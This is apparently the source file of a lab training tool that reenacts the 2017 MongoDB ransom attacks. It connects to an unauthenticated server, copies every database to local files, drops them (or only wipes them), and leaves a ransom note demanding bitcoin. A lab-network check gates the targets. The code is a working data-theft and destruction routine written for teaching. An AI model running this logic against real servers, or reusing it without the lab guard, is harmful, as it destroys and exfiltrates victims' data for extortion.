/**
 * `ransom-bot`: what the January 2017 groups' scripts did to every open MongoDB they found:
 * connect without credentials, list the databases, copy each one, drop it, and leave a
 * ransom-note database. It only ever runs against hosts of the lab network map, and it gives
 * up like the real ones did when the server asks for authentication.
 */
import { BSON } from 'mongodb';
import type { Document, MongoClient } from 'mongodb';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join, relative, resolve as resolvePath } from 'node:path';
import { labSeed, worldVariants } from '../../world/dataset/world-variants.ts';
import { locateNetworkMap } from '../../world/network/network-map.ts';
import { LabNetworkError, loadLabNetwork, resolveLabEndpoint } from '../lab-connection/lab-endpoint.ts';
import { connectLabMongo, parseMongoTarget } from '../lab-connection/mongo-target.ts';
import type { ToolIO } from '../program/tool-io.ts';
import { flag, stringOption, UsageError, openCommandLine, usageMessage } from '../../command-line/arguments.ts';
import { NOTE_DATABASES, ransomNote } from './ransom-note.ts';

export const RANSOM_EXIT = { raided: 0, failed: 1, usage: 2, authRequired: 3 } as const;

const SYSTEM_DATABASES = new Set(['admin', 'local', 'config']);

export const RANSOM_BOT_HELP = `Usage: ransom-bot [options] <host[:port]>
Do to an open MongoDB server what the January 2017 ransom groups did: connect without a
password, list the databases, copy each one, drop it, and leave a ransom note.
Only hosts of the lab network are accepted (e.g. db.cloudpets.test or db.cloudpets.test:27017).

Options:
  --out <dir>              where the copies go, one <db>/<collection>.json (canonical
                           Extended JSON lines) per collection (default: ransom-copy)
  --wipe-only              drop without copying (several groups did; paying got nothing back)
  --note-db <name>         the note's database, e.g. ${NOTE_DATABASES.join(', ')}
                           (default: the one this lab world's crew uses)
  --note-collection <name> the note's collection (default README)
  --demand <text>          what the note asks for (default "0.2 BTC")
  --dry-run                only report what it would copy and drop
  -h, --help               this help

Exit codes: 0 server raided (or --dry-run done), 1 not a lab host, unreachable, or a server
error, 2 bad arguments, 3 authentication required (the bot moves on to the next open server).`;

/** The note database of this lab world's crew (world-variants.ts), from the lab folder the network map is in. */
function defaultNoteDatabase(io: Pick<ToolIO, 'cwd' | 'env'>): string {
  try {
    return worldVariants(labSeed(dirname(dirname(locateNetworkMap(io.cwd, io.env as NodeJS.ProcessEnv))))).ransomDatabase;
  } catch {
    return NOTE_DATABASES[0];
  }
}

export async function ransomBotMain(argv: string[], io: ToolIO): Promise<number> {
  const parsed = openCommandLine({ name: 'ransom-bot', help: RANSOM_BOT_HELP, usageExit: RANSOM_EXIT.usage, io }, argv, {
    out: { type: 'string' },
    'wipe-only': { type: 'boolean' },
    'note-db': { type: 'string' },
    'note-collection': { type: 'string' },
    demand: { type: 'string' },
    'dry-run': { type: 'boolean' },
    help: { type: 'boolean', short: 'h' },
  });
  if (typeof parsed === 'number') return parsed;
  const { values, positionals } = parsed;
  const say = (text: string) => io.stdout.write(`[ransom-bot] ${text}\n`);
  const usage = (message: string) => {
    io.stderr.write(`${usageMessage('ransom-bot', message)}
`);
    return RANSOM_EXIT.usage;
  };
  if (positionals.length !== 1) return usage(positionals.length ? `one target at a time, got: ${positionals.join(' ')}` : 'no target given, e.g. ransom-bot db.cloudpets.test');
  // Each learner's world has its own ransom crew: the default note name follows the world's seed.
  const noteDb = stringOption(values, 'note-db') ?? defaultNoteDatabase(io);
  const noteCollection = stringOption(values, 'note-collection') ?? 'README';
  if (!/^[A-Za-z0-9_-]+$/.test(noteDb)) return usage(`--note-db '${noteDb}' is not a valid database name`);
  if (!/^[A-Za-z0-9_.-]+$/.test(noteCollection) || noteCollection.startsWith('system.')) return usage(`--note-collection '${noteCollection}' is not a valid collection name`);

  let target;
  try {
    if (/^mongodb(\+srv)?:\/\/[^/]*@/.test(positionals[0]!)) throw new UsageError('ransom-bot: the bot has no credentials; give it a host, not a user:password connection string');
    target = parseMongoTarget('ransom-bot', { connection: positionals[0]!.includes('://') ? positionals[0] : `${positionals[0]}/` });
  } catch (error) {
    if (error instanceof UsageError) return usage(error.message.replace(/^ransom-bot: /, ''));
    throw error;
  }
  const where = `${target.host}:${target.port}`;

  let client: MongoClient;
  try {
    const map = loadLabNetwork(io);
    // The safety line: the bot refuses anything the lab network map does not know.
    const endpoint = resolveLabEndpoint(map, target.host, target.port);
    say(`target ${where} (${endpoint.address})`);
    ({ client } = await connectLabMongo(map, target, 'ransom-bot'));
  } catch (error) {
    if (error instanceof LabNetworkError && error.kind === 'unknown-host') {
      io.stderr.write(`ransom-bot: refusing to run: ${target.host} is not a host of the lab network\n`);
    } else {
      io.stderr.write(`ransom-bot: ${(error as Error).message}\n`);
    }
    return RANSOM_EXIT.failed;
  }

  try {
    const admin = client.db('admin');
    const buildInfo = await admin.command({ buildInfo: 1 }).catch(() => undefined);
    let databases: Document[];
    try {
      databases = (await admin.command({ listDatabases: 1 })).databases as Document[];
    } catch (error) {
      const code = (error as { code?: number }).code;
      if (code === 13) {
        say(`MongoDB ${buildInfo?.version ?? ''} asks for a password: listDatabases refused (${(error as Error).message})`.replace('  ', ' '));
        io.stderr.write('ransom-bot: authentication required: the bot moves on to the next open server\n');
        return RANSOM_EXIT.authRequired;
      }
      throw error;
    }
    say(`connected without credentials to MongoDB ${buildInfo?.version ?? '(unknown version)'}: authentication disabled`);
    const victims = databases.map((db) => String(db.name)).filter((name) => !SYSTEM_DATABASES.has(name) && name !== noteDb);
    say(`databases: ${databases.map((db) => `${db.name} (${Number(db.sizeOnDisk ?? 0)} bytes)`).join(', ') || '(none)'}`);
    if (victims.length === 0) {
      say(`nothing to take here (only ${[...SYSTEM_DATABASES].join(', ')}${databases.some((db) => db.name === noteDb) ? ` and an earlier ${noteDb}` : ''})`);
      return RANSOM_EXIT.raided;
    }

    const dryRun = flag(values, 'dry-run');
    const copy = !flag(values, 'wipe-only');
    const outDir = resolvePath(io.cwd, stringOption(values, 'out') ?? 'ransom-copy');
    for (const name of victims) {
      const db = client.db(name);
      const collections = (await db.listCollections({}, { nameOnly: true }).toArray()).map((info) => String(info.name)).filter((coll) => !coll.startsWith('system.'));
      if (copy) {
        for (const coll of collections) {
          const file = join(outDir, name, `${coll}.json`);
          if (dryRun) {
            say(`would copy ${name}.${coll} (${await db.collection(coll).estimatedDocumentCount()} documents)`);
            continue;
          }
          let count = 0;
          let text = '';
          for await (const doc of db.collection(coll).find({})) {
            text += BSON.EJSON.stringify(doc, { relaxed: false }) + '\n';
            count++;
          }
          try {
            mkdirSync(join(outDir, name), { recursive: true });
            writeFileSync(file, text);
          } catch (error) {
            // Without its copy the bot would only be wiping; stop before dropping anything more.
            io.stderr.write(`ransom-bot: cannot write the copy of ${name}.${coll} to ${file}: ${(error as Error).message}; nothing dropped from ${name}\n`);
            return RANSOM_EXIT.failed;
          }
          say(`copied ${name}.${coll}: ${count} documents -> ${relative(io.cwd, file) || file}`);
        }
      }
      if (dryRun) {
        say(`would drop database ${name} (${collections.length} collections)`);
        continue;
      }
      await db.dropDatabase();
      say(`dropped database ${name}`);
    }
    if (dryRun) {
      say(`dry run: nothing copied or dropped; the note would go to ${noteDb}.${noteCollection}`);
      return RANSOM_EXIT.raided;
    }
    const note = ransomNote(stringOption(values, 'demand') ?? '0.2 BTC', victims, copy);
    await client.db(noteDb).collection(noteCollection).insertOne(note);
    say(`left the ransom note in ${noteDb}.${noteCollection}: "${note.note}"`);
    say(`done: ${victims.length} database${victims.length === 1 ? '' : 's'} ${copy ? 'copied and ' : ''}wiped. On to the next open server.`);
    return RANSOM_EXIT.raided;
  } catch (error) {
    const err = error as { codeName?: string; message?: string };
    io.stderr.write(`ransom-bot: the server refused: ${err.codeName ? `${err.codeName}: ` : ''}${err.message}\n`);
    return RANSOM_EXIT.failed;
  } finally {
    await client.close().catch(() => undefined);
  }
}
